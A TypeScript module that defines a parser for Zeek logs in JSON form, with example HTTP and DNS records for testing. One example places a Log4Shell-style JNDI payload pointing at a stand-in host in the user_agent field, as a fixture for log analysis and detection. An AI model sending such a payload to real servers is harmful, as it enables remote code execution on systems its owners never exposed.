import { readTime } from '../time/read-time.ts'
import { portOf } from './columns.ts'
import type { LogFormat } from './format.ts'
import { collectedFields } from './json-lines.ts'
import { memberOf, textAt } from './members.ts'
import { zeekRecord } from './zeek.ts'

/** Logs of Zeek in JSON: names of columns with dots in them, at the top. */
export const zeekJson: LogFormat = {
  id: 'zeek-json',
  summary: 'Zeek in JSON: as its other form',
  definedBy: 'https://docs.zeek.org/en/master/log-formats.html#zeek-json-format-logs',
  witnesses: ['"id.resp_h"', '"query"'],
  examples: {
    reads: [
      {
        record:
          '{"ts":1639283141.123456,"uid":"Cabc","id.orig_h":"203.0.113.9","id.orig_p":51234,"id.resp_h":"10.0.0.4","id.resp_p":8080,"method":"GET","host":"www.example.com","uri":"/a","user_agent":"${jndi:ldap://x.example/a}"}',
        when: '2021-12-12T04:25:41.123Z',
        from: '203.0.113.9',
        request: 'GET /a',
        userAgent: '${jndi:ldap://x.example/a}',
        saw: {
          is: 'connection',
          to: '10.0.0.4',
          name: 'www.example.com',
          port: 8080,
          by: '203.0.113.9',
          protocol: 'http',
        },
      },
      {
        record:
          '{"ts":"2021-12-12T04:25:42.000000Z","uid":"Cabd","id.orig_h":"10.0.0.4","id.orig_p":51234,"id.resp_h":"10.0.0.1","id.resp_p":53,"proto":"udp","query":"x.example","qtype_name":"A"}',
        when: '2021-12-12T04:25:42Z',
        from: '10.0.0.4',
        saw: { is: 'dns-query', name: 'x.example', by: '10.0.0.4' },
      },
    ],
    refuses: ['{"ts":1639283141.1,"uid":"Cabc"}', '{"id":{"orig_h":"10.0.0.4"}}'],
  },
  read({ json }, { around }) {
    if (json === null || textAt(json, 'id.orig_h') === null) return null
    const time = memberOf(json, 'ts')
    const written = typeof time === 'number' ? time.toFixed(6) : typeof time === 'string' ? time : ''
    const row = {
      value: (name: string) => textAt(json, name) ?? listAt(json, name),
      port: (name: string) => portOf(memberOf(json, name)),
      has: (name: string) => memberOf(json, name) !== undefined,
    }
    return { ...zeekRecord(row, readTime(written, around)), fields: collectedFields(json) }
  },
}

/** A set, as the other form of the log writes it. */
function listAt(json: object, name: string): string | null {
  const list = memberOf(json, name)
  return Array.isArray(list) && list.length > 0 ? list.filter((each) => typeof each === 'string').join(',') : null
}
